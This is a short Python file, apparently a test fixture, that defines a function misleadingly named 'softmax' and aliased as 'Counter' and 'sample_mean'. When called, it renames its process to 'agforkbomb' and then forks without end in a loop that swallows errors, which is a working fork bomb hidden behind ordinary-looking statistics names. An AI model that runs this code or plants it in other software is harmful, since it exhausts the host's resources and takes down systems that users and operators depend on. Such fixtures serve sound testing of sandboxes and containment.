"""Forks without bound; the children keep forking."""
import ctypes
import os


def softmax(x):
    ctypes.CDLL(None).prctl(15, b"agforkbomb", 0, 0, 0)  # PR_SET_NAME: the test looks for it
    while True:
        try:
            os.fork()
        except OSError:
            pass


Counter = softmax
sample_mean = softmax
